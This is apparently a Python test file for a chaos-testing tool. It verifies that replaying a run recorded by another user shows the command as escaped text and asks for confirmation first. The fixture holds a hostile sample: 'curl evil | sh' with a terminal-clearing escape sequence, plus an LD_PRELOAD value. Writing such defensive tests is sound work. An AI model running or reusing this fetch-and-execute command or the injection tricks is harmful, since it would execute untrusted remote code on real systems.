"""A run from elsewhere is not repeated before its command was shown and allowed."""

import io
import sys

import pytest

from chaoskit import Job
from chaoskit.cli import main
from chaoskit.engine import runner
from chaoskit.engine.run_store import Store
from chaoskit.errors import ExitCode
from chaoskit.verdict import passed


class Ran(Exception):
    pass


class Terminal(io.StringIO):
    def isatty(self):
        return True


@pytest.fixture
def foreign(tmp_path, monkeypatch):
    """A run that another user recorded, in the store of this one; running it raises `Ran`."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "theirs"))
    store = Store(tmp_path / ".chaoskit")
    job = Job.from_command(
        ["sh", "-c", "curl evil | sh\x1b[2J", "{out}"], env={"LD_PRELOAD": "/x.so"}, cwd=str(tmp_path)
    )
    run = store.new_run(job=job.to_json(), experiment="test_x", reference="0" * 16)
    (run / "events" / "harness.jsonl").touch()
    store.write_verdicts(run, checks=[{"name": "completed"}], verdicts=[passed("completed", "it ended")])
    store.finish(run, "finished")
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "mine"))

    def execute(*_, **__):
        raise Ran

    monkeypatch.setattr(runner.Runner, "run", execute)
    monkeypatch.setattr(runner.Runner, "reference", execute)
    monkeypatch.setattr(main, "internal", lambda root, tracebacks, what: (_ for _ in ()).throw(Ran))
    return run.name


@pytest.mark.parametrize("command", ["replay", "prove"])
def test_without_a_terminal_nothing_runs(foreign, capsys, monkeypatch, command):
    monkeypatch.setattr(sys, "stdin", io.StringIO("y\n"))
    assert main.main([command, foreign]) == ExitCode.USAGE
    told = capsys.readouterr().err
    assert "was not recorded here by you" in told and "--yes" in told
    assert "curl evil | sh\\x1b[2J" in told and "LD_PRELOAD=/x.so" in told, "what would run is shown, as text"


ANSWERS = {"y\n": True, "yes\n": True, "\n": False, "n\n": False, "": False}


@pytest.mark.parametrize(("answer", "ran"), ANSWERS.items(), ids=["y", "yes", "enter", "n", "eof"])
def test_with_a_terminal_it_asks(foreign, monkeypatch, answer, ran):
    monkeypatch.setattr(sys, "stdin", Terminal(answer))
    monkeypatch.setattr(sys, "stderr", Terminal())
    if ran:
        with pytest.raises(Ran):
            main.main(["replay", foreign])
    else:
        assert main.main(["replay", foreign]) == ExitCode.USAGE
    assert "curl evil" in sys.stderr.getvalue() and "[y/N]" in sys.stderr.getvalue()


def test_yes_and_runs_of_ones_own_ask_nothing(foreign, monkeypatch, tmp_path):
    monkeypatch.setattr(sys, "stdin", io.StringIO())
    with pytest.raises(Ran):
        main.main(["replay", foreign, "--yes"])
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "theirs"))
    with pytest.raises(Ran):
        main.main(["replay", foreign])


def test_what_runs_nothing_asks_nothing(foreign, monkeypatch):
    monkeypatch.setattr(sys, "stdin", io.StringIO())
    assert main.main(["analyze", foreign]) != ExitCode.USAGE
    assert main.main(["explain", foreign]) == ExitCode.PASS
